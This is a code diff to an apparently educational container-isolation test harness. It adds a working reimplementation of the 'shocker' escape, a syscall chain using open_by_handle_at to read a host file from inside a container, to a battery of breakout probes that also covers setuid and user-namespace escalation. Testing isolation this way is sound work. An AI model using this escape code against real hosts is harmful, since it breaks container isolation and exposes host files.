@@ -34,10 +34,10 @@ import tempfile
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 
-from minidocker import _elf, _stage, chroot, rootfs
+from minidocker import _elf, _stage, _syscalls, chroot, rootfs
 
 __all__ = ["ATTACKS", "BASE_OPTIONS", "Attack", "Outcome", "Targets", "arena", "battery", "main",
-           "prepare_rootfs", "run_attack", "table", "targets"]
+           "prepare_rootfs", "run_attack", "shocker_program", "table", "targets"]
 
 
 @dataclass(frozen=True)
@@ -100,6 +100,28 @@ def _needs_disk(t: Targets) -> str:
     return "" if t.disk_readable else "this host forbids opening its disk even to its own root"
 
 
+# --8<-- [start:shocker_program]
+def shocker_program(marker: str) -> bytes:
+    """The "shocker" exploit (Docker 0.11, 2014) as a probe: open the host's ``marker`` by handle, print it.
+
+    ``open_by_handle_at(2)`` opens a file from a *handle*, bytes that name an inode of a filesystem,
+    with no path: no root directory or mount namespace is in the way, only ``CAP_DAC_READ_SEARCH``
+    (and seccomp, which Docker lets through when that capability is granted). The program opens
+    ``/etc/hosts``, which the engine bind-mounts from its state directory on the host's filesystem,
+    opens the handle of ``marker``'s directory on that filesystem, changes into it and becomes
+    ``cat``. The original guessed the handle, from the root inode (2 on ext4) down; the host
+    computes it here. ``marker`` must live on the filesystem of the engine's state directory.
+    """
+    directory, name = os.path.split(os.path.abspath(marker))
+    handle = _syscalls.name_to_handle_at(-100, directory)  # AT_FDCWD: relative to our own cwd
+    return _elf.chain_program(
+        (2, b"/etc/hosts\0", os.O_RDONLY, 0),  # open(): a file descriptor on the host's filesystem
+        (304, _elf.PREVIOUS, handle, os.O_RDONLY | os.O_DIRECTORY),  # open_by_handle_at()
+        (81, _elf.PREVIOUS),  # fchdir(): now in the host's directory, outside the container's root
+        (59, b"/bin/cat\0", [b"cat\0", name.encode() + b"\0"], 0))  # execve("/bin/cat", NAME)
+# --8<-- [end:shocker_program]
+
+
 # --8<-- [start:attacks]
 ATTACKS = [
     Attack("chroot breakout (chapter 01)", "PID + mount namespaces; mount needs CAP_SYS_ADMIN",
@@ -156,6 +178,10 @@ ATTACKS = [
     Attack("all capabilities back, in a new user namespace", "seccomp: no unshare(2)",
            "unshare -U -r true && echo new user namespace: root with every capability in it",
            ("--security-opt", "seccomp=unconfined")),
+    Attack("open a host file by its handle (shocker)", "CAP_DAC_READ_SEARCH (seccomp follows it)",
+           "/attack/shocker; s=$?; [ $s = 0 ] || {{ echo errno $s >&2; exit 1; }}",
+           ("--cap-add", "DAC_READ_SEARCH"), requires=_needs_probes,
+           probes={"shocker": lambda t: shocker_program(t.marker)}),
     Attack("setuid binary as a user (no-new-privileges)", "no_new_privs: setuid bits ignored",
            _expect("su -s /bin/sh attacker -c /attack/setuid0", "[ $s = 0 ]",
                    "user 1000 became root through a setuid file"),
